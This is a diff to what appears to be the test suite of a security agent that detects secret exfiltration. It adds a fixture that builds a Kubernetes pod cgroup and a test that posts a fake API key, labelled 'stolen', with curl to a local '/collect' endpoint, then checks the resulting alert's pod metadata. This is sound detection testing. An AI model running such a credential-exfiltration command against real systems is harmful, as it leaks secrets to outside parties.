@@ -157,6 +157,62 @@ def test_process_in_a_container_cgroup_carries_container_id_and_unit(
     assert proc["cgroup"].endswith(f"/docker-{container_id}.scope")
 
 
+@pytest.fixture
+def pod_cgroup(cgroup):
+    """A container cgroup nested as kubelet's systemd driver lays out a burstable pod, under the
+    test cgroup: kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod<uid>.slice/
+    cri-containerd-<id>.scope (the slice name writes the uid's dashes as '_')."""
+    pod_uid = "-".join(secrets.token_hex(n) for n in (4, 2, 2, 2, 6))
+    container_id = secrets.token_hex(32)
+    pod_slice = "kubepods-burstable-pod" + pod_uid.replace("-", "_") + ".slice"
+    levels = ["kubepods.slice", "kubepods-burstable.slice", pod_slice,
+              f"cri-containerd-{container_id}.scope"]
+    made = []
+
+    def existing(path):
+        node = TestCgroup.__new__(TestCgroup)
+        node.path = path
+        node.procs_file = str(path / "cgroup.procs")
+        return node
+
+    try:
+        path = Path(str(cgroup))
+        for name in levels:
+            path = path / name
+            path.mkdir()
+            made.append(existing(path))
+        yield made[-1], pod_uid, container_id
+    finally:
+        # Bottom-up: a cgroup with children or processes cannot be removed; remove() kills
+        # what is left in each level first.
+        for node in reversed(made):
+            node.remove()
+
+
+def test_process_in_a_kubernetes_pod_carries_pod_uid_name_and_namespace(
+        agent, pod_cgroup, http_server, registry, scratch):
+    leaf, pod_uid, container_id = pod_cgroup
+    key = registry.new("openai")
+    body = scratch / "body.json"
+    body.write_text(json.dumps({"stolen": key}))
+    # What a pod's container sees: kubelet's service variables and the pod name as HOSTNAME;
+    # the namespace from the downward API. No POD_NAME: the name comes from HOSTNAME.
+    pod_env = {"POD_NAMESPACE": "ci-jobs", "KUBERNETES_SERVICE_HOST": "10.0.0.1",
+               "HOSTNAME": "exfil-7d9f"}
+    script = ("curl -sS --fail --noproxy '*' --max-time 15 --data-binary "
+              f"@{body} {http_server.url('127.0.0.1', '/collect')}; sleep 0.2")
+    ClientRunner(leaf, registry).run(["sh", "-c", script], env=pod_env)
+    http_server.wait_for_requests(1)
+    alerts = agent.wait_for_alerts(lambda a: (a.get("process") or {}).get("comm") == "curl",
+                                   timeout=ALERT_TIMEOUT)
+    assert alerts, f"no alert from the pod's cgroup\n{agent.diagnostics()}"
+    proc = alerts[0]["process"]
+    assert proc.get("pod") == {"uid": pod_uid, "name": "exfil-7d9f", "namespace": "ci-jobs"}, (
+        _redacted(agent, alerts[0]))
+    assert proc["container"] == container_id
+    assert proc["cgroup"].endswith(f"/cri-containerd-{container_id}.scope")
+
+
 JAVA_CLIENT = r"""
 import java.net.URI;
 import java.net.http.HttpClient;
